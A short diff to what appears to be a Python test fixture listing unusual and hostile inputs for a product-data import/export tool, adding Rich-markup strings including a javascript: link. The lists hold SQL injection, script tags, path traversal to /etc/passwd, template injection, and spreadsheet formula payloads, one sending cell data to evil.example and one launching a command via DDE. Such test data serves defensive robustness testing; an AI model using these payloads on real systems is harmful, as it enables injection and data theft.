@@ -36,7 +36,7 @@ HEADER_WITH_EXTRAS = HEADER + ["Giá", "Ảnh", "Mã sản phẩm", "Điện tho
 WEIRD_TEXT = [
     "\x00", "\x07\x1b", "\u202e\u202d", "\ufeff", "\u0301\u0301\u0301", "\U0001f600" * 30,
     "Ǆǅǆ" * 100, "ﷺ" * 50, "\u2028\u2029", "'; DROP TABLE product; --", "<script>x</script>",
-    "%s%n%x", "{{7*7}}", "../../etc/passwd", "\\N", "NULL", "\r\n\r\n", "ẞ", "İ" * 300,
+    "%s%n%x", "{{7*7}}", "[/bold]", "[link=javascript:alert(1)]x[/link]", "../../etc/passwd", "\\N", "NULL", "\r\n\r\n", "ẞ", "İ" * 300,
 ]
 FORMULAS = ['=HYPERLINK("http://evil.example/"&A1)', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
             "=1/0", "\t=1"]
